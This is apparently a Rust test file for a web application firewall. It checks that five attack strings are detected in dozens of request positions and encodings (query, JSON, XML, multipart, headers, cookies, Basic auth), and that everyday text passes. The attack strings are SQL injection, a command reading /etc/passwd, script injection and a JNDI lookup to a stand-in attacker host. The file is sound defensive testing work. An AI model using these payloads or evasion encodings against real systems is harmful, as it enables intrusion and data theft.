//! Attacks at every position of a request, in every encoding that is possible there: each is found, and ordinary text at the
//! same positions and in the same encodings passes.

use super::waf::{Request, encode, waf, whole};
use hailwire_callout::Decision;

const ATTACKS: [&str; 5] = [
    "1' UNION SELECT password FROM users--",
    "1' OR '1'='1",
    "; cat /etc/passwd",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
];

const EVERYDAY: [&str; 5] = [
    "O'Brien & Sons (est. 1987)",
    "5 > 3, and 1 or 2 are less",
    "He said \"yes\" -- and left",
    "price: 10 EUR; please call",
    "the union selects a delegate from its members",
];

fn request(uri: String, headers: &[(&str, &str)], body: Option<Vec<u8>>) -> Request {
    let own = |(name, value): &(&str, &str)| ((*name).to_owned(), (*value).to_owned());
    Request {
        class: String::new(),
        line: String::new(),
        uri,
        headers: headers.iter().map(own).collect(),
        body,
    }
}

fn body(kind: &str, text: impl Into<Vec<u8>>) -> Request {
    request("/".to_owned(), &[("content-type", kind)], Some(text.into()))
}

fn part(head: &str, text: &str) -> Request {
    let text =
        format!("--b0\r\nContent-Disposition: form-data; {head}\r\n\r\n{text}\r\n--b0--\r\n");
    body("multipart/form-data; boundary=b0", text)
}

/// Each character as its escape in JSON.
fn escaped(text: &str) -> String {
    let unit = |unit: u16| format!("\\u{unit:04x}");
    text.encode_utf16().map(unit).collect()
}

fn decimal(text: &str) -> String {
    text.chars()
        .map(|c| format!("&#{};", u32::from(c)))
        .collect()
}

fn hexadecimal(text: &str) -> String {
    text.chars()
        .map(|c| format!("&#x{:04X};", u32::from(c)))
        .collect()
}

/// With `between` between any two characters.
fn parted(text: &str, between: &str) -> String {
    let named = |c: char| match c {
        '<' => "&lt;".to_owned(),
        '&' => "&amp;".to_owned(),
        other => other.to_string(),
    };
    text.chars().map(named).collect::<Vec<_>>().join(between)
}

fn cdata(text: &str) -> String {
    text.chars().map(|c| format!("<![CDATA[{c}]]>")).collect()
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_be_bytes).collect()
}

fn base64(text: &str) -> String {
    let digits = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for three in text.as_bytes().chunks(3) {
        let byte = |at: usize| u32::from(three.get(at).copied().unwrap_or_default());
        let bits = byte(0) << 16 | byte(1) << 8 | byte(2);
        for digit in 0..=three.len() {
            out.push(char::from(digits[(bits >> (18 - 6 * digit) & 63) as usize]));
        }
    }
    out
}

/// libinjection takes an XML declaration at an unexpected position for an attack, whatever follows.
const SUSPECT: [&str; 4] = [
    "XML in a query",
    "XML that says it is a form",
    "XML in a field",
    "XML that says it is JSON",
];

/// A request with the text at each position and in each encoding.
fn positions(text: &str) -> Vec<(&'static str, Request)> {
    let get = |uri: String| request(uri, &[], None);
    let header =
        |name: &str, value: String| request("/".to_owned(), &[(name, value.as_str())], None);
    let (form, json) = ("application/x-www-form-urlencoded", "application/json");
    let (percent, unicode) = (encode(text), escaped(text));
    let object = format!("{{\"a\":\"{unicode}\"}}");
    let plain = serde_json::json!({ "a": text }).to_string();
    let xml = |inside: &str| format!("<?xml version=\"1.0\"?><a><b>{inside}</b></a>");
    let attribute = |inside: &str| format!("<a b=\"{inside}\"/>");
    vec![
        ("query", get(format!("/?q={percent}"))),
        ("name in a query", get(format!("/?{percent}=1"))),
        ("query after a fragment", get(format!("/?a=1#&q={percent}"))),
        ("fragment", get(format!("/a#q={percent}"))),
        ("JSON in a query", get(format!("/?q={}", encode(&object)))),
        (
            "XML in a query",
            get(format!("/?q={}", encode(&xml(&cdata(text))))),
        ),
        ("form", body(form, format!("q={percent}"))),
        (
            "JSON in a form",
            body(form, format!("q={}", encode(&object))),
        ),
        ("JSON that says it is a form", body(form, object.clone())),
        (
            "XML that says it is a form",
            body(form, xml(&hexadecimal(text))),
        ),
        ("JSON", body(json, plain.clone())),
        ("escapes of JSON", body(json, object.clone())),
        ("name in JSON", body(json, format!("{{\"{unicode}\":1}}"))),
        (
            "JSON in JSON",
            body(json, serde_json::json!({ "x": object }).to_string()),
        ),
        ("JSON in UTF-16", body(json, wide(&plain))),
        (
            "JSON of another type",
            body("application/vnd.x+json", object.clone()),
        ),
        (
            "JSON of an unknown type",
            body("text/plain", object.clone()),
        ),
        ("field", part("name=q", text)),
        (
            "field with an empty file name",
            part("name=q; filename=\"\"", text),
        ),
        (
            "field with a file name in its name",
            part("name=\"q;filename=x\"", text),
        ),
        ("JSON in a field", part("name=q", &object)),
        (
            "JSON in a part",
            part("name=q\r\nContent-Type: application/json", &object),
        ),
        (
            "JSON in a file",
            part(
                "name=q; filename=blob\r\nContent-Type: application/json",
                &object,
            ),
        ),
        ("XML in a field", part("name=q", &xml(&cdata(text)))),
        (
            "XML in a file",
            part(
                "name=q; filename=x\r\nContent-Type: text/xml",
                &xml(&decimal(text)),
            ),
        ),
        (
            "form in a part",
            part(
                &format!("name=q\r\nContent-Type: {form}"),
                &format!("q={percent}"),
            ),
        ),
        (
            "head of a part",
            part(&format!("name=q\r\nX-A: {text}"), "x"),
        ),
        ("text in XML", body("text/xml", xml(&parted(text, "")))),
        ("decimal references", body("text/xml", xml(&decimal(text)))),
        (
            "hexadecimal references",
            body("application/soap+xml", xml(&hexadecimal(text))),
        ),
        ("CDATA sections", body("text/xml", xml(&cdata(text)))),
        (
            "one CDATA section",
            body("text/xml", xml(&format!("<![CDATA[{text}]]>"))),
        ),
        (
            "comments in text",
            body("text/xml", xml(&parted(text, "<!-- x -->"))),
        ),
        (
            "instructions in text",
            body("text/xml", xml(&parted(text, "<?x y?>"))),
        ),
        (
            "elements in text",
            body("text/xml", xml(&parted(text, "<i/>"))),
        ),
        (
            "attribute",
            body(
                "text/xml",
                attribute(&parted(text, "").replace('"', "&quot;")),
            ),
        ),
        (
            "references in an attribute",
            body("text/xml", attribute(&hexadecimal(text))),
        ),
        ("XML in UTF-16", body("text/xml", wide(&xml(&cdata(text))))),
        (
            "XML of no type",
            body("application/octet-stream", xml(&decimal(text))),
        ),
        ("XML that says it is JSON", body(json, xml(&cdata(text)))),
        ("header field", header("x-anything", text.to_owned())),
        ("JSON in a header field", header("x-filter", object.clone())),
        (
            "percent signs in a header field",
            header("referer", format!("https://example.com/?q={percent}")),
        ),
        ("cookie", header("cookie", format!("a=1; q={percent}"))),
        (
            "JSON in a cookie",
            header("cookie", format!("a=1; q={}", encode(&object))),
        ),
        (
            "password",
            header(
                "authorization",
                format!("Basic {}", base64(&format!("me:{text}"))),
            ),
        ),
        (
            "user",
            header(
                "authorization",
                format!("basic {}", base64(&format!("{text}:x"))),
            ),
        ),
    ]
}

#[test]
fn an_attack_is_found_at_every_position_and_in_every_encoding_and_ordinary_text_passes() {
    let waf = waf();
    let (mut missed, mut wrong, mut all) = (Vec::new(), Vec::new(), 0);
    for text in ATTACKS {
        for (position, request) in positions(text) {
            all += 1;
            if whole(&waf, &request).decision == Decision::Allow {
                missed.push(format!("{position}: {text}"));
            }
        }
    }
    for text in EVERYDAY {
        for (position, request) in positions(text) {
            let response = whole(&waf, &request);
            if response.decision != Decision::Allow && !SUSPECT.contains(&position) {
                wrong.push(format!(
                    "{position}: {text} by {:?} {:?}",
                    response.audit.rule_ids, response.audit.tags
                ));
            }
        }
    }
    println!(
        "{all} attacks, {} missed, {} wrong",
        missed.len(),
        wrong.len()
    );
    assert!(
        missed.is_empty() && wrong.is_empty(),
        "missed:\n{}\nwrong:\n{}",
        missed.join("\n"),
        wrong.join("\n")
    );
}
